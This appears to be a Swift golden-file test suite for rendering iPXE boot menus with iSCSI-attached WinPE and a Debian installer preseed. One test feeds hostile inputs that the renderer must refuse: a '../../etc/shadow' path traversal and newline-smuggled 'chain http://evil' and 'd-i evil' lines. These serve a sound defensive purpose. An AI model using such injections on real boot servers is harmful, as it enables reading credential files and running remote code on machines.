import Domain
import Render
import Testing

/// The super-workstation tools menu (WinPE with the disk attached, Linux installer onto it) and
/// the installer's preseed.
@Suite struct ToolsGoldenTests {
    static func tools(_ disks: ISCSIDisks) -> BootTools {
        BootTools(disks: disks, winpePath: "winpe", installerKernel: "debian-installer/amd64/linux",
                  installerInitrd: "debian-installer/amd64/initrd.gz",
                  preseedURL: "\(Fixtures.baseURL)/preseed/525400aabb01.cfg")
    }

    static var superPlan: MachineBootPlan {
        var machine = Fixtures.pc01
        machine.superWorkstation = true
        machine.bootItems = [1, 6]
        let disks = Fixtures.disks(for: machine, firstLUN: 1, dataCount: 1, chap: true)
        return MachineBootPlan(machine: machine, entries: [.init(item: Fixtures.win10, iscsi: disks), .init(item: Fixtures.local)],
                               defaultItem: 1, menuTimeoutSeconds: 5, baseURL: Fixtures.baseURL, assetsURL: Fixtures.assetsURL,
                               tools: tools(disks))
    }

    @Test func superWorkstationMenuHasWinPEAndTheInstallerOnItsDisk() throws {
        let script = try MachineScript.render(Self.superPlan)
        try Golden.check(script, "machine-super-tools.ipxe")
        #expect(script.contains("item --key p tool-winpe WinPE with this iSCSI disk attached"))
        // The OS disk (LUN 1 on tgt) as 0x80, then wimboot with the copype layout by CPU.
        #expect(script.contains("sanhook --drive 0x80 iscsi:10.99.0.1::3260:1:iqn.2022-10.org.dbc.iscsi:pc01 || goto failed\n" +
                                "cpuid --ext 29 && set winpe-arch amd64 || set winpe-arch x86"))
        #expect(script.contains("initrd --name boot.wim http://10.99.0.1:8050/assets/winpe/${winpe-arch}/media/sources/boot.wim || goto failed"))
        #expect(script.contains("url=http://10.99.0.1:8050/preseed/525400aabb01.cfg || goto failed"))
    }

    @Test func aPlanWithoutToolsHasNoToolsMenu() throws {
        var plan = Self.superPlan
        plan.tools = nil
        let script = try MachineScript.render(plan)
        #expect(!script.contains("tool-"))
    }

    @Test func hostileToolPathsAreRefused() {
        var plan = Self.superPlan
        plan.tools?.installerKernel = "../../etc/shadow"
        #expect(throws: RenderError.self) { try MachineScript.render(plan) }
        plan = Self.superPlan
        plan.tools?.preseedURL = "http://x/p.cfg\nchain http://evil"
        #expect(throws: RenderError.self) { try MachineScript.render(plan) }
    }

    @Test func preseedLogsInToTheMachinesTargetAndPartitionsItsDisk() throws {
        let plan = Self.superPlan
        let text = try InstallerPreseed.render(machine: plan.machine, disks: plan.tools!.disks, mirror: "http://deb.debian.org/debian")
        try Golden.check(text, "preseed-pc01.cfg")
        #expect(text.contains("d-i partman-iscsi/login/targets multiselect iqn.2022-10.org.dbc.iscsi:pc01\n"))
        #expect(text.contains("d-i partman-auto/disk string /dev/disk/by-path/ip-10.99.0.1:3260-iscsi-iqn.2022-10.org.dbc.iscsi:pc01-lun-1\n"))
        #expect(text.contains("d-i partman-iscsi/login/password password s3cretChap123\n"))
        let https = try InstallerPreseed.render(machine: plan.machine, disks: plan.tools!.disks, mirror: "https://mirror.example:8443/")
        #expect(https.contains("d-i mirror/https/hostname string mirror.example:8443\nd-i mirror/https/directory string /debian\n"))
        #expect(throws: RenderError.self) {
            try InstallerPreseed.render(machine: plan.machine, disks: plan.tools!.disks, mirror: "http://x/debian\nd-i evil")
        }
    }
}
